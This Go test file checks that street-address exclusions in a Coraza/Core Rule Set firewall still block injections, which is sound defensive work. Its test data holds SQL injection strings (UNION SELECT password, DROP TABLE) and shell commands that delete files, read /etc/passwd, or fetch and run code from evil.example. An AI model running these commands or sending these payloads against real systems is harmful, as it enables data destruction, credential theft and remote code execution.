package waf

import (
	"net/http"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
)

// streetInjections are SQL injections dressed as street lines: accented letters around the
// quote, full-width quotes, comments after a "#".
var streetInjections = []string{
	"Église' OR 'a'='a",
	"12 Rue' OR '1'='1",
	"Apt #3' OR 1=1 --",
	"#3' OR 'x'='x",
	"3º' OR '1'='1",
	"x' OR 'ä'='ä",
	"ü' or ''='",
	"é' or 1=1#",
	"Straße' OR 1=1 --",
	"1' OR 1=1 -- é",
	"é' AND SLEEP(5)--",
	"ñ'||(SELECT version())||'",
	"Ünit' UNION SELECT password FROM users--",
	"Hôtel'; SELECT pg_sleep(5)--",
	"12 Rue d'Été'; DROP TABLE orders; --",
	"\uff07 OR \uff071\uff07=\uff071",
	"admin'--",
	"é';--",
}

// streetCommands are command injections dressed as street lines: a unit word after ";" followed
// by what makes a command more than bare words (options, paths, pipes, substitution, redirection).
// The paranoia level 1 rules refuse each of them anywhere; a backquoted "id" or a pipe into nc
// after a plain word they let through everywhere, so those are not listed.
var streetCommands = []string{
	"Bldg 2; rm -rf /",
	"Bldg 2; Rm -rf ~",
	"Apt 2; cat /etc/passwd",
	"Unit 4; $(reboot)",
	"Apt 3; del C:\\Windows\\*",
	"Bldg 2 && curl evil.example|sh",
	"12 Main St; wget http://evil.example/x -O- | sh",
	"Bldg 2; powershell -enc ZQBjAGgAbwA=",
	"Floor 3; ls > /tmp/x",
	"Hall B; dir; Invoke-WebRequest evil.example",
}

// TestStreetLineExclusionKeepsInjectionsBlocked compares the rules as configured with the same
// rules without the street-line exclusions (10003-10006 for SQL injection, 10008-10011 for
// command execution): every injection, every payload (the SQL ones in every evasion), sent as a
// street line through the API and the storefront form, that the unexcluded rules refuse must
// still be refused, and so must every street-dressed SQL injection and command. And the addresses
// that needed the exclusions must still be refused without them; when a CRS release stops
// refusing one, its exclusion can go.
func TestStreetLineExclusionKeepsInjectionsBlocked(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("compiles the rules twice and evaluates about 120 requests on each")
	}
	with := testWAF(t, Block, nil).Wrap(echo)
	cw, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).
		WithDirectives(directives(Block, 1<<20) + "\nSecRuleRemoveById 10003-10011"))
	if err != nil {
		t.Fatal(err)
	}
	without := (&WAF{waf: cw, mode: Block, log: testWAF(t, Block, nil).log}).Wrap(echo)
	refused := func(h http.Handler, rq request) bool {
		rec := serve(h, rq.build())
		return rec.Code >= 400 && rec.Header().Get("Pasar-Incident") != ""
	}
	var values []string
	values = append(values, streetInjections...)
	values = append(values, streetCommands...)
	// The exclusion concerns a SQL injection rule: those payloads in every evasion, the others as
	// they are.
	for _, p := range payloads {
		for i, ev := range evasions {
			if i == 0 || p.class == "sql injection" {
				values = append(values, ev.fn(p.value))
			}
		}
	}
	var streets []func(string) request
	for _, e := range endpoints {
		if strings.HasSuffix(e.name, "street line") {
			streets = append(streets, e.build)
		}
	}
	if len(streets) != 2 {
		t.Fatalf("%d street-line endpoints, want the API's and the form's", len(streets))
	}
	for _, v := range values {
		for _, build := range streets {
			rq := build(v)
			if refused(without, rq) && !refused(with, rq) {
				t.Errorf("%q in %s: refused without the exclusion, let through with it", v, rq.target)
			}
		}
	}
	for _, v := range append(streetInjections[:len(streetInjections):len(streetInjections)], streetCommands...) {
		for _, build := range streets {
			if rq := build(v); !refused(with, rq) {
				t.Errorf("%q in %s: let through", v, rq.target)
			}
		}
	}
	if rq := streets[0](addresses[0]); !refused(without, rq) {
		t.Errorf("%q is no longer refused without the exclusion: 10003-10006 may be dropped", addresses[0])
	}
	if rq := streets[0]("Bldg 2; Rm 301"); !refused(without, rq) {
		t.Errorf("%q is no longer refused without the exclusion: 10008-10011 may be dropped", "Bldg 2; Rm 301")
	}
}
